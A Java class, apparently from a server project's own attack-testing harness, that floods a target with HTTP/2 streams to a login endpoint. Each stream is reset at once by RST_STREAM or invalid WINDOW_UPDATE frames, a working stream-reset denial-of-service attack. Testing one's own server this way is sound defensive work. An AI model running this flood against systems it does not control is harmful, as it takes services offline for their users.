package dev.jobwise.attack;

import static dev.jobwise.server.testing.Http2Bytes.END_HEADERS;
import static dev.jobwise.server.testing.Http2Bytes.HEADERS;
import static dev.jobwise.server.testing.Http2Bytes.RST_STREAM;
import static dev.jobwise.server.testing.Http2Bytes.WINDOW_UPDATE;
import static dev.jobwise.server.testing.Http2Bytes.concat;
import static dev.jobwise.server.testing.Http2Bytes.frame;
import static dev.jobwise.server.testing.Http2Bytes.headers;
import static dev.jobwise.server.testing.Http2Bytes.number;
import static dev.jobwise.server.testing.Http2Bytes.start;

import java.time.Duration;

/**
 * Opens streams and has each one reset at once: by itself, or by the server because of a deliberate
 * error.
 */
final class Http2StreamErrorsAttack implements Attack {

  @Override
  public String name() {
    return "stream-errors";
  }

  @Override
  public void run(Target target, Duration length) throws InterruptedException {
    new Crowd(22, true, Duration.ofMillis(1))
        .speak(target, length, turn -> turn == 0 ? start() : streams(turn));
  }

  private static byte[] streams(int turn) {
    byte[][] all = new byte[50][];
    for (int i = 0; i < all.length; i++) {
      int stream = 2 * (turn * all.length + i) + 1;
      byte[] open = frame(HEADERS, END_HEADERS, stream, headers("POST", "/api/v1/auth/login"));
      byte[] error =
          switch (i % 3) {
            case 0 -> number(RST_STREAM, stream, 8);
            case 1 -> number(WINDOW_UPDATE, stream, Integer.MAX_VALUE);
            default -> number(WINDOW_UPDATE, stream, 0);
          };
      all[i] = concat(open, error);
    }
    return concat(all);
  }
}
